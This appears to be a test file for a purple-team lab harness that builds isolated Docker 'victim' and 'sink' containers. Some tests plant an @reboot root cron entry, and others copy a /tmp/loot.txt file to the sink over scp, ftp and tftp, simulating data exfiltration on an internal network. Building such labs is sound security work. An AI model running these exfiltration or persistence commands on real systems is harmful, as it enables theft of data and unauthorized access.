import { expect } from 'chai';
import type Dockerode from 'dockerode';
import { randomBytes } from 'node:crypto';
import { execa } from 'execa';
import { setTimeout as sleep } from 'node:timers/promises';
import { docker, execInContainer } from '../../harness/host/docker.js';
import { ensureImages, imageRef, listImages, LABEL_SSH_PUBKEY, pruneStaleImages } from '../../harness/host/images.js';

const RUN_LABEL = 'purple.run';

describe('host: images and containers', function () {
  this.timeout(300_000);
  const runId = `test-host-${process.pid}-${randomBytes(3).toString('hex')}`;
  const created: Dockerode.Container[] = [];
  let network: Dockerode.Network | undefined;

  before(async () => {
    await ensureImages({ onProgress: (line) => console.log(`      ${line}`) });
  });

  after(async () => {
    for (const c of created) await c.remove({ force: true }).catch(() => {});
    if (network) await network.remove().catch(() => {});
  });

  async function start(role: 'victim' | 'sink', options: { alias?: string } = {}): Promise<Dockerode.Container> {
    const container = await docker().createContainer({
      Image: imageRef(role),
      name: `${runId}-${role}-${created.length + 1}`,
      Labels: { [RUN_LABEL]: runId },
      HostConfig: { NetworkMode: network ? network.id : 'none' },
      ...(network && options.alias
        ? { NetworkingConfig: { EndpointsConfig: { [network.id]: { Aliases: [options.alias] } } } }
        : {}),
    });
    created.push(container);
    await container.start();
    return container;
  }

  async function ok(container: Dockerode.Container, cmd: string[], user?: string): Promise<string> {
    const res = await execInContainer(container, cmd, user ? { user } : {});
    expect(res.code, `${cmd.join(' ')}\n${res.stdout}\n${res.stderr}`).to.equal(0);
    return res.stdout;
  }

  it('ensureImages is a no-op when every image is current', async () => {
    const t0 = Date.now();
    const result = await ensureImages();
    expect(result.images.map((i) => [i.name, i.built])).to.deep.equal([
      ['base', false],
      ['victim', false],
      ['sink', false],
    ]);
    expect(Date.now() - t0).to.be.below(5000);
    const listed = await listImages();
    for (const name of ['base', 'victim', 'sink'] as const) {
      expect(listed.some((i) => `purple/${i.name}:${i.tag}` === imageRef(name) && i.status === 'current')).to.equal(true);
    }
  });

  it('prune removes stale purple tags and keeps the current images', async () => {
    const stale = `stale${randomBytes(4).toString('hex')}`;
    await docker().getImage(imageRef('base')).tag({ repo: 'purple/base', tag: stale });
    expect((await listImages()).find((i) => i.tag === stale)?.status).to.equal('stale');
    const removed = await pruneStaleImages();
    expect(removed).to.include(`purple/base:${stale}`);
    const listed = await listImages();
    expect(listed.some((i) => i.tag === stale)).to.equal(false);
    for (const name of ['base', 'victim', 'sink'] as const) {
      expect((await docker().getImage(imageRef(name)).inspect()).Id).to.match(/^sha256:/);
    }
  });

  it('prune removes only its own tags: an image built FROM purple/base inherits its labels but is left alone', async () => {
    // Another tool's images on the same engine: one tagged, one untagged (dangling), both FROM purple/base.
    const foreign = `purple-test-foreign-${randomBytes(4).toString('hex')}:1`;
    const dockerfile = (marker: string) => `FROM ${imageRef('base')}\nLABEL org.example.marker=${marker}\n`;
    await execa('docker', ['build', '-q', '-t', foreign, '-'], { input: dockerfile('tagged') });
    const dangling = (await execa('docker', ['build', '-q', '-'], { input: dockerfile(randomBytes(4).toString('hex')) })).stdout.trim();
    try {
      const stale = `stale${randomBytes(4).toString('hex')}`;
      await docker().getImage(imageRef('base')).tag({ repo: 'purple/base', tag: stale });
      const listed = await listImages();
      expect(listed.every((i) => ['base', 'victim', 'sink'].includes(i.name) && i.tag !== '<none>'), JSON.stringify(listed)).to.equal(true);
      const removed = await pruneStaleImages();
      expect(removed).to.include(`purple/base:${stale}`);
      expect(removed.every((ref) => /^purple\/(base|victim|sink):/.test(ref)), removed.join(' ')).to.equal(true);
      expect((await docker().getImage(foreign).inspect()).Config.Labels['org.example.marker']).to.equal('tagged');
      expect((await docker().getImage(dangling).inspect()).Id).to.equal(dangling);
    } finally {
      await execa('docker', ['rmi', foreign, dangling], { reject: false });
    }
  });

  it('victim: python3, perl and the expected users', async () => {
    const victim = await start('victim');
    expect(await ok(victim, ['python3', '-c', 'import sys; print(sys.version_info[0] * 7 * 2)'])).to.equal('42\n');
    expect(await ok(victim, ['perl', '-e', 'print join(",", map { $_ * 2 } 1..3), "\\n"'])).to.equal('2,4,6\n');
    expect(await ok(victim, ['id', '-u', 'alice'])).to.equal('1000\n');
    expect(await ok(victim, ['getent', 'passwd', 'alice'])).to.match(/^alice:x:1000:1000::\/home\/alice:\/bin\/bash$/m);
    const svc = (await ok(victim, ['getent', 'passwd', 'svc-app'])).split(':');
    expect(Number(svc[2])).to.be.below(1000);
    for (const user of ['www-data', 'backup', 'alice']) {
      expect(await ok(victim, ['runuser', '-u', user, '--', 'sh', '-c', 'id -un'])).to.equal(`${user}\n`);
      expect(await ok(victim, ['su', '-s', '/bin/sh', '-c', 'id -un', user])).to.equal(`${user}\n`);
    }
    expect(await ok(victim, ['whoami'], 'www-data')).to.equal('www-data\n');
    for (const tool of ['ssh', 'scp', 'ftp', 'tftp', 'crontab', 'tini', 'xz', 'gzip', 'tar', 'zip', 'ip']) {
      await ok(victim, ['sh', '-c', `command -v ${tool}`]);
    }
    const pubkey = (await docker().getImage(imageRef('victim')).inspect()).Config.Labels[LABEL_SSH_PUBKEY];
    expect((await ok(victim, ['cat', '/home/alice/.ssh/id_ed25519.pub'])).trim()).to.equal(pubkey);
    expect(await ok(victim, ['stat', '-c', '%U %a', '/home/alice/.ssh/id_ed25519'])).to.equal('alice 600\n');
    // Nothing but init runs at boot: no cron until the run starts it.
    expect(await ok(victim, ['ps', '-eo', 'comm='])).to.not.match(/^cron$/m);
  });

  it('victim: cron started from the run fires /etc/cron.d @reboot entries, again on each restart', async () => {
    const victim = await start('victim');
    await ok(victim, ['sh', '-c', 'printf "@reboot root echo fired >> /tmp/reboot-marker\\n" > /etc/cron.d/purple-test && chmod 644 /etc/cron.d/purple-test']);
    for (const expected of ['fired\n', 'fired\nfired\n']) {
      await ok(victim, ['purple-start-cron']);
      let marker = '';
      for (let i = 0; i < 50 && marker !== expected; i++) {
        await sleep(200);
        marker = (await execInContainer(victim, ['cat', '/tmp/reboot-marker'])).stdout;
      }
      expect(marker).to.equal(expected);
    }
    expect((await ok(victim, ['ps', '-eo', 'comm='])).match(/^cron$/gm)).to.have.length(1);
  });

  describe('victim to sink transfers on an internal network', () => {
    let victim: Dockerode.Container;
    let sink: Dockerode.Container;
    const payload = randomBytes(48 * 1024).toString('base64');

    before(async () => {
      network = await docker().createNetwork({ Name: `${runId}-net`, Internal: true, Labels: { [RUN_LABEL]: runId } });
      sink = await start('sink', { alias: 'sink' });
      victim = await start('victim', { alias: 'victim' });
      await ok(victim, ['sh', '-c', `printf %s '${payload}' > /tmp/loot.txt`]);
      // The sink's daemons start asynchronously with the container.
      for (let i = 0; i < 50; i++) {
        const ss = (await execInContainer(sink, ['ss', '-ltun'])).stdout;
        if (/:22\b/.test(ss) && /:21\b/.test(ss) && /:69\b/.test(ss)) return;
        await sleep(200);
      }
      throw new Error('sink daemons did not start listening on 21, 22 and 69/udp');
    });

    const onSink = async (path: string) => ok(sink, ['cat', path]);

    it('scp (SFTP) by key as root and as alice, to drop@sink and root@sink', async () => {
      await ok(victim, ['scp', '-q', '/tmp/loot.txt', 'drop@sink:loot-root.txt']);
      await ok(victim, ['scp', '-q', '/tmp/loot.txt', 'drop@sink:loot-alice.txt'], 'alice');
      await ok(victim, ['scp', '-q', '/tmp/loot.txt', 'root@sink:/tmp/loot.txt']);
      expect(await onSink('/home/drop/loot-root.txt')).to.equal(payload);
      expect(await onSink('/home/drop/loot-alice.txt')).to.equal(payload);
      expect(await onSink('/tmp/loot.txt')).to.equal(payload);
      expect(await ok(victim, ['ssh', 'drop@sink', 'id -un'])).to.equal('drop\n');
    });

    it('ftp upload as drop/drop and anonymously, non-interactively', async () => {
      await ok(victim, ['sh', '-c', 'ftp -n sink <<EOF\nuser drop drop\nbinary\nput /tmp/loot.txt loot-ftp.txt\nquit\nEOF']);
      await ok(victim, ['sh', '-c', 'ftp -n sink <<EOF\nuser anonymous x\nbinary\ncd upload\nput /tmp/loot.txt loot-anon.txt\nquit\nEOF']);
      expect(await onSink('/home/drop/loot-ftp.txt')).to.equal(payload);
      expect(await onSink('/srv/ftp/upload/loot-anon.txt')).to.equal(payload);
    });

    it('tftp upload creates the file on the sink', async () => {
      await ok(victim, ['tftp', '-m', 'binary', 'sink', '-c', 'put', '/tmp/loot.txt', 'loot-tftp.txt']);
      expect(await onSink('/srv/tftp/loot-tftp.txt')).to.equal(payload);
    });
  });
});
